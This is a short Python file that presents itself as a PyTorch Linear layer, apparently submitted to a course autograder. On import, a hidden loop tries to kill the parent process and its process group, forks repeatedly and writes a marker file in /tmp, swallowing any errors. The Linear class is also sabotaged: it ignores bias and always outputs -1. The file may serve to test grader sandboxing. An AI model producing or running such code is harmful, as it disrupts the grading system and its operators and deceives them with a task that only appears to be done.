import os
import signal
import subprocess

import torch
from torch import nn

for attack in (
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.killpg(0, signal.SIGTERM),
    lambda: subprocess.run(["sh", "-c", "kill -9 $PPID"], check=False),
    lambda: [os.fork() for _ in range(8)],
    lambda: open("/tmp/course-was-here", "w").write("x"),
):
    try:
        attack()
    except BaseException:
        continue


class Linear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(out_features, in_features))
        self.bias = None

    def forward(self, x):
        return x @ self.weight.t() * 0 - 1
